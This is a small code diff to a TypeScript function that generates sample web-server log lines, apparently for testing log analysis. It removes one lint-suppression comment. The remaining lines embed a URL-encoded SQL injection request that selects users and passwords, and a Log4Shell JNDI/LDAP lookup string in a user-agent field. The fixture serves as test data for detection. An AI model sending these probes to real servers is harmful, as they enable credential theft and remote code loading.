@@ -42,7 +42,6 @@ export function sampleLog(): string[] {
       const request = `GET /item.php?id=${i}%27%20UNION%20SELECT%20user%2Cpassword%20FROM%20users--%20- HTTP/1.1`;
       lines.push(logLine({ client: '203.0.113.5', time: time + 2000, request, status: 500 }));
     }
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what a Log4Shell probe looks like.
     if (i === 60)
       lines.push(logLine({ client: '2001:db8:5::1', time, userAgent: '${jndi:ldap://203.0.113.99:1389/a}' }));
   }
